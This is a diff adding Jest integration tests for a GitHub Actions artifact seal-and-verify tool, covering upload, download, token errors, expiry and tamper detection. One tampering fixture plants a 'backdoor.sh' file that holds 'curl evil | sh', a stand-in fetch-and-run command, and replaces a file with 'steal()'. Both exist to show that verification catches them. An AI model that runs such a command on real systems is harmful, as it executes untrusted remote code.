@@ -1,0 +1,377 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
+import { randomBytes } from 'node:crypto'
+import * as fs from 'node:fs'
+import * as path from 'node:path'
+import { buildContextFromEnv } from '../../src/app/runner-environment.js'
+import type { Digest } from '../../src/core/digest.js'
+import { SealError } from '../../src/core/errors.js'
+import { parseListing } from '../../src/core/listing.js'
+import { type SealedArtifact, sealSubject } from '../../src/core/seal.js'
+import { LocalDirectoryStore } from '../../src/stores/evidence/local-directory.js'
+import type { SealBundleLocation } from '../../src/stores/evidence/seal-bundle.js'
+import { type GitHubApiHost, startGitHubApiHost } from '../hosts/github-api-host.js'
+import { type JobSpec, type ResultsServiceHost, startResultsServiceHost } from '../hosts/results-service-host.js'
+import { captureStdout, inJob } from '../hosts/results/job-env.js'
+import { removeAll, shellTreeDigest, tempDir, writeTree } from '../helpers/trees.js'
+
+// @actions/github fixes its API base URL (GITHUB_API_URL) when first imported, so the
+// store, which imports it through @actions/artifact, is imported once the hosts run.
+let results: ResultsServiceHost
+let github: GitHubApiHost
+let store: typeof import('../../src/stores/evidence/workflow-artifact.js')
+let verify: typeof import('../../src/app/download-and-verify.js')
+const stdout = captureStdout()
+const savedApiUrl = process.env.GITHUB_API_URL
+const REPOSITORY = 'acme/shop'
+const BUILD = buildContextFromEnv({})
+
+beforeAll(async () => {
+  results = await startResultsServiceHost()
+  github = await startGitHubApiHost({ artifactSource: results.artifactSource })
+  github.addToken('ghs_no-actions', { deployments: 'write', actions: 'none' })
+  process.env.GITHUB_API_URL = github.url
+  results.setGitHubApiUrl(github.url)
+  store = await import('../../src/stores/evidence/workflow-artifact.js')
+  verify = await import('../../src/app/download-and-verify.js')
+})
+
+afterAll(async () => {
+  stdout.restore()
+  if (savedApiUrl === undefined) delete process.env.GITHUB_API_URL
+  else process.env.GITHUB_API_URL = savedApiUrl
+  await github?.close()
+  await results?.close()
+  removeAll()
+})
+
+let nextRun = 7000
+const newRun = (): number => nextRun++
+
+/** A job's step: the runner's variables in process.env, a workspace and a RUNNER_TEMP of its own. */
+function job<T>(spec: JobSpec, fn: (dirs: { workspace: string; temp: string }) => Promise<T>): Promise<T> {
+  const dirs = { workspace: tempDir('workspace-'), temp: tempDir('runner-temp-') }
+  return inJob(results, { repository: REPOSITORY, ...spec, workspace: dirs.workspace, runnerTemp: dirs.temp }, () => fn(dirs))
+}
+
+interface Sealed {
+  readonly artifact: SealedArtifact
+  readonly bundle: SealBundleLocation
+  readonly root: string
+  readonly paths: string[]
+}
+
+/** Seals a build directory (leaving out *.log) and writes its bundle, as the seal action does. */
+async function sealBuild(workspace: string, files: Record<string, string | Buffer> = BUILD_FILES): Promise<Sealed> {
+  const root = writeTree(path.join(workspace, 'dist'), files)
+  const artifact = await sealSubject(
+    { kind: 'paths', patterns: { include: [root], exclude: ['**/*.log'] }, baseDir: workspace, inputName: 'subject-path' },
+    { fallbackName: 'dist', build: BUILD, name: 'shop' }
+  )
+  const bundle = await new LocalDirectoryStore(path.join(workspace, '.seal', 'shop'), 'output-dir').putSealBundle(artifact)
+  return { artifact, bundle, root, paths: parseListing(artifact.listing.toString('utf8'), 'listing').map((e) => e.path) }
+}
+
+const BUILD_FILES: Record<string, string | Buffer> = {
+  'index.html': '<html>shop</html>\n',
+  'assets/app.js': 'console.log("shop")\n',
+  'assets/app.css': 'body { margin: 0 }\n',
+  'api/openapi.yaml': 'openapi: 3.1.0\n',
+  'build.log': 'not sealed\n'
+}
+
+async function uploadIn(
+  runId: number,
+  name: string,
+  withFiles = true,
+  files: Record<string, string | Buffer> = BUILD_FILES
+): Promise<{ sealed: Sealed; uploaded: import('../../src/stores/evidence/workflow-artifact.js').UploadedArtifact }> {
+  return job({ runId, jobId: 'build' }, async ({ workspace }) => {
+    const sealed = await sealBuild(workspace, files)
+    const uploaded = await new store.WorkflowArtifactStore().upload({
+      name,
+      bundle: sealed.bundle,
+      files: withFiles ? { root: sealed.root, paths: sealed.paths } : null,
+      retentionDays: 5
+    })
+    return { sealed, uploaded }
+  })
+}
+
+async function failure(promise: Promise<unknown>): Promise<SealError> {
+  try {
+    await promise
+  } catch (error) {
+    if (error instanceof SealError) return error
+    throw error
+  }
+  throw new Error('expected a SealError')
+}
+
+function filesUnder(dir: string): string[] {
+  return (fs.readdirSync(dir, { recursive: true, withFileTypes: true }) as fs.Dirent[])
+    .filter((e) => e.isFile())
+    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)).split(path.sep).join('/'))
+    .sort()
+}
+
+describe('uploading and downloading in one workflow run', () => {
+  it('uploads the bundle and exactly the sealed files; a later job downloads them', async () => {
+    const runId = newRun()
+    const { sealed, uploaded } = await uploadIn(runId, 'shop-sealed')
+
+    expect(uploaded).toEqual({ id: expect.any(Number), name: 'shop-sealed', size: expect.any(Number), digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/) })
+    const hosted = results.artifacts().find((a) => a.id === uploaded.id)
+    expect(hosted).toMatchObject({ name: 'shop-sealed', runId, size: uploaded.size, digest: uploaded.digest, expired: false })
+    expect(Date.parse(hosted?.expiresAt ?? '') - Date.parse(hosted?.createdAt ?? '')).toBeGreaterThan(4.9 * 86_400_000)
+
+    const downloaded = await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+      const into = path.join(workspace, 'incoming')
+      return new store.WorkflowArtifactStore().download({ name: 'shop-sealed', into })
+    })
+    expect(downloaded).toMatchObject({ id: uploaded.id, name: 'shop-sealed', runId: null, digest: uploaded.digest, digestMatched: true })
+    expect(filesUnder(downloaded.dir)).toEqual([
+      'files/api/openapi.yaml',
+      'files/assets/app.css',
+      'files/assets/app.js',
+      'files/index.html',
+      'seal/shop.intoto.json',
+      'seal/shop.sha256'
+    ])
+    expect(downloaded.filesDir).toBe(path.join(downloaded.dir, 'files'))
+    expect(fs.readFileSync(downloaded.checksumsPath)).toEqual(sealed.artifact.listing)
+    expect(fs.readFileSync(downloaded.statementPath, 'utf8')).toBe(fs.readFileSync(sealed.bundle.statementPath, 'utf8'))
+    expect(shellTreeDigest(downloaded.filesDir as string)).toBe(sealed.artifact.digest)
+    expect(fs.readdirSync(path.dirname(downloaded.dir))).toEqual(['incoming'])
+  })
+
+  it('carries the bundle alone when asked', async () => {
+    const runId = newRun()
+    await uploadIn(runId, 'shop-bundle', false)
+    const downloaded = await job({ runId, jobId: 'deploy' }, ({ workspace }) =>
+      new store.WorkflowArtifactStore().download({ name: 'shop-bundle', into: path.join(workspace, 'in') })
+    )
+    expect(downloaded.filesDir).toBeNull()
+    expect(filesUnder(downloaded.dir)).toEqual(['seal/shop.intoto.json', 'seal/shop.sha256'])
+  })
+
+  it('refuses a name that already exists in the run: artifacts are immutable', async () => {
+    const runId = newRun()
+    await uploadIn(runId, 'shop-once')
+    const error = await failure(uploadIn(runId, 'shop-once'))
+    expect(error.message).toMatch(/^artifact-name: an artifact named "shop-once" already exists in this workflow run/)
+    expect(error.message).toMatch(/immutable.*Choose another artifact-name/)
+    // The same name in another run is another artifact.
+    await expect(uploadIn(newRun(), 'shop-once')).resolves.toBeDefined()
+  })
+
+  it('refuses a name the artifact service cannot hold before any request', async () => {
+    results.clearRequests()
+    const error = await failure(uploadIn(newRun(), 'shop/v1'))
+    expect(error.message).toBe(
+      'artifact-name: "shop/v1" contains "/", which a workflow artifact name cannot hold (nor " : < > | * ? \\ / or line breaks). Choose a name without them.'
+    )
+    expect(results.requests).toEqual([])
+  })
+
+  it('refuses, before any request, files the artifact service cannot carry and files gone since the seal', async () => {
+    results.clearRequests()
+    await job({ runId: newRun(), jobId: 'build' }, async ({ workspace }) => {
+      const sealed = await sealBuild(workspace, { ...BUILD_FILES, 'notes:v1.txt': 'colon' })
+      const upload = (paths: string[], retentionDays?: number): Promise<unknown> =>
+        new store.WorkflowArtifactStore().upload({ name: 'shop', bundle: sealed.bundle, files: { root: sealed.root, paths }, ...(retentionDays === undefined ? {} : { retentionDays }) })
+      expect((await failure(upload(sealed.paths))).message).toMatch(/^The file "notes:v1.txt" cannot travel in a workflow artifact: its path contains ":"/)
+      const kept = sealed.paths.filter((p) => p !== 'notes:v1.txt')
+      fs.rmSync(path.join(sealed.root, 'index.html'))
+      expect((await failure(upload(kept))).message).toMatch(/^Cannot upload the sealed file "index.html" under ".*": it no longer exists\. The files changed after they were sealed/)
+      expect((await failure(upload(kept, 0))).message).toMatch(/^retention-days: "0" is not a number of days/)
+      expect(fs.readdirSync(path.join(process.env.RUNNER_TEMP as string))).toEqual([])
+    })
+    expect(results.requests).toEqual([])
+  })
+
+  it('says when no artifact has the name, and leaves no directory', async () => {
+    const runId = newRun()
+    await uploadIn(runId, 'shop-here')
+    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+      const into = path.join(workspace, 'in')
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-elsewhere', into }))
+      expect(error.message).toMatch(/^artifact-name: there is no artifact named "shop-elsewhere" in this workflow run\. Upload it in an earlier job/)
+      expect(fs.readdirSync(workspace)).toEqual([])
+    })
+  })
+
+  it('says an expired artifact is not listed any more', async () => {
+    const runId = newRun()
+    const { uploaded } = await uploadIn(runId, 'shop-short-lived')
+    await results.expireArtifact(uploaded.id)
+    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-short-lived', into: path.join(workspace, 'in') }))
+      expect(error.message).toMatch(/no artifact named "shop-short-lived" in this workflow run.*expired/)
+      expect(fs.readdirSync(workspace)).toEqual([])
+    })
+  })
+
+  it('refuses to download into a directory that holds something', async () => {
+    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace }) => {
+      writeTree(workspace, { 'in/keep.txt': 'mine' })
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'anything', into: path.join(workspace, 'in') }))
+      expect(error.message).toMatch(/^path: ".*in" is not empty/)
+      expect(fs.readFileSync(path.join(workspace, 'in', 'keep.txt'), 'utf8')).toBe('mine')
+    })
+  })
+})
+
+describe('downloading from another workflow run', () => {
+  // (The client's octokit logs each 4xx answer with console.error, bound when octokit
+  // loads: the three lines in the test output are expected.)
+  it('finds the artifact through the REST API with a token', async () => {
+    const runId = newRun()
+    const { sealed, uploaded } = await uploadIn(runId, 'shop-release')
+    const downloaded = await job({ runId: newRun(), jobId: 'deploy' }, ({ workspace }) =>
+      new store.WorkflowArtifactStore().download({ name: 'shop-release', runId, token: github.token, into: path.join(workspace, 'in') })
+    )
+    expect(downloaded).toMatchObject({ id: uploaded.id, runId, digest: uploaded.digest, digestMatched: true })
+    expect(shellTreeDigest(downloaded.filesDir as string)).toBe(sealed.artifact.digest)
+  })
+
+  it('names run-id when the run does not exist', async () => {
+    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace }) => {
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop', runId: 999_999, token: github.token, into: path.join(workspace, 'in') }))
+      expect(error.message).toMatch(/^run-id: workflow run 999999 was not found in acme\/shop \(404\)/)
+      expect(fs.readdirSync(workspace)).toEqual([])
+    })
+  })
+
+  it('names github-token and actions: read when the token may not read artifacts', async () => {
+    const runId = newRun()
+    await uploadIn(runId, 'shop-private')
+    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace }) => {
+      const download = (token?: string): Promise<unknown> =>
+        new store.WorkflowArtifactStore().download({ name: 'shop-private', runId, ...(token === undefined ? {} : { token }), into: path.join(workspace, 'in') })
+      expect((await failure(download('ghs_no-actions'))).message).toMatch(/^github-token: the token may not read the workflow artifacts of acme\/shop \(403 .*"actions: read"/)
+      expect((await failure(download('ghs_unknown'))).message).toMatch(/^github-token: GitHub refused the token \(401/)
+      expect((await failure(download())).message).toMatch(/^github-token: downloading the artifact "shop-private" from another workflow run \(run-id \d+\) needs a token/)
+      expect(fs.readdirSync(workspace)).toEqual([])
+    })
+  })
+
+  it('says the artifact has expired', async () => {
+    const runId = newRun()
+    const { uploaded } = await uploadIn(runId, 'shop-old')
+    await results.expireArtifact(uploaded.id)
+    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace }) => {
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-old', runId, token: github.token, into: path.join(workspace, 'in') }))
+      expect(error.message).toMatch(new RegExp(`^artifact-name: the artifact "shop-old" in workflow run ${runId} of acme/shop has expired`))
+      expect(fs.readdirSync(workspace)).toEqual([])
+    })
+  })
+})
+
+describe('bytes that are not the uploaded ones', () => {
+  it('fails a download whose zip differs from the recorded digest', async () => {
+    const runId = newRun()
+    const { uploaded } = await uploadIn(runId, 'shop-tampered-zip')
+    await results.tamperArtifactBlob(uploaded.id, (files) => {
+      files.set('files/index.html', Buffer.from('<html>pwned</html>\n'))
+    })
+    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-tampered-zip', into: path.join(workspace, 'in') }))
+      expect(error.message).toMatch(/^artifact-name: the artifact "shop-tampered-zip" \(id \d+ in this workflow run\) arrived with other bytes than were uploaded/)
+      expect(fs.readdirSync(workspace)).toEqual([])
+    })
+  })
+
+  it('downloadAndVerify names each file that differs from the seal and deletes the download', async () => {
+    const runId = newRun()
+    const { sealed, uploaded } = await uploadIn(runId, 'shop-tampered')
+    await results.tamperArtifactBlob(uploaded.id, (files) => {
+      files.set('files/assets/app.js', Buffer.from('steal()\n'))
+      files.delete('files/api/openapi.yaml')
+      files.set('files/backdoor.sh', Buffer.from('curl evil | sh\n'))
+    })
+    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+      const error = await failure(
+        verify.downloadAndVerify(new store.WorkflowArtifactStore(), { name: 'shop-tampered', into: path.join(workspace, 'in'), expected: sealed.artifact.digest }, { build: BUILD })
+      )
+      expect(error.message).toBe(
+        `artifact-name: the files of the artifact "shop-tampered" are not the sealed files of ${sealed.artifact.digest}: 1 changed, 1 missing, 1 added:\n` +
+          '  missing api/openapi.yaml\n' +
+          '  changed assets/app.js\n' +
+          '  added   backdoor.sh\n' +
+          'The download was deleted. Do not deploy these files: find out who changed the stored artifact, then seal and upload the build again.'
+      )
+      expect(fs.readdirSync(workspace)).toEqual([])
+    })
+  })
+
+  it('downloadAndVerify proves intact files against the expected digest, and refuses another digest', async () => {
+    const runId = newRun()
+    const { sealed } = await uploadIn(runId, 'shop-intact')
+    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+      const verified = await verify.downloadAndVerify(
+        new store.WorkflowArtifactStore(),
+        { name: 'shop-intact', into: path.join(workspace, 'in'), expected: sealed.artifact.digest },
+        { build: BUILD }
+      )
+      expect(verified).toMatchObject({ digest: sealed.artifact.digest, fileCount: 4 })
+      const other = `sha256:${'0'.repeat(64)}` as Digest
+      const error = await failure(
+        verify.downloadAndVerify(new store.WorkflowArtifactStore(), { name: 'shop-intact', into: path.join(workspace, 'again'), expected: other }, { build: BUILD })
+      )
+      expect(error.message).toMatch(new RegExp(`^digest: the seal bundle in the artifact "shop-intact" is the listing of ${sealed.artifact.digest}, not of ${other}\\.`))
+      expect(fs.readdirSync(workspace)).toEqual(['in'])
+    })
+  })
+
+  it('downloadAndVerify verifies a single sealed file, whose digest is its own sha256', async () => {
+    const runId = newRun()
+    const sealed = await job({ runId, jobId: 'build' }, async ({ workspace }) => {
+      const file = path.join(writeTree(path.join(workspace, 'out'), { 'shop.tgz': randomBytes(5000) }), 'shop.tgz')
+      const artifact = await sealSubject({ kind: 'paths', patterns: { include: [file], exclude: [] }, baseDir: workspace, inputName: 'subject-path' }, { fallbackName: 'x', build: BUILD })
+      const bundle = await new LocalDirectoryStore(path.join(workspace, '.seal'), 'output-dir').putSealBundle(artifact)
+      await new store.WorkflowArtifactStore().upload({ name: 'shop-tgz', bundle, files: { root: path.dirname(file), paths: ['shop.tgz'] } })
+      expect(artifact.kind).toBe('file')
+      return artifact
+    })
+    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+      const request = { name: 'shop-tgz', into: path.join(workspace, 'a') }
+      const withExpected = await verify.downloadAndVerify(new store.WorkflowArtifactStore(), { ...request, expected: sealed.digest }, { build: BUILD })
+      expect(withExpected).toMatchObject({ digest: sealed.digest, fileCount: 1 })
+      const inferred = await verify.downloadAndVerify(new store.WorkflowArtifactStore(), { ...request, into: path.join(workspace, 'b') }, { build: BUILD })
+      expect(inferred.digest).toBe(sealed.digest)
+    })
+  })
+
+  it('a download cut short between files: the recorded digest catches it, nothing is kept', async () => {
+    const runId = newRun()
+    await uploadIn(runId, 'shop-cut')
+    results.truncateDownloads({ keep: 'whole-entries' })
+    try {
+      await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+        const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-cut', into: path.join(workspace, 'in') }))
+        expect(error.message).toMatch(/arrived with other bytes than were uploaded: its zip does not hash to sha256:[0-9a-f]{64}, the digest recorded at upload\. The download was cut short/)
+        expect(fs.readdirSync(workspace)).toEqual([])
+      })
+    } finally {
+      results.truncateDownloads(false)
+    }
+  })
+
+  // The installed client retries a failed download five times, five seconds apart: this
+  // test waits about 25 s for it to give up.
+  it('a download that fails part-way: the partial files are removed', async () => {
+    const runId = newRun()
+    // A large file that does not compress puts the middle of the zip inside a file.
+    await uploadIn(runId, 'shop-broken', true, { ...BUILD_FILES, 'assets/big.bin': randomBytes(256 * 1024) })
+    results.truncateDownloads({ keep: 'half' })
+    try {
+      await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+        const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-broken', into: path.join(workspace, 'in') }))
+        expect(error.message).toMatch(/^artifact-name: the download of the artifact "shop-broken" in this workflow run failed part-way \(Artifact download failed after 5 retries\.\)\. Nothing was kept\./)
+        expect(fs.readdirSync(workspace)).toEqual([])
+      })
+    } finally {
+      results.truncateDownloads(false)
+    }
+  })
+})
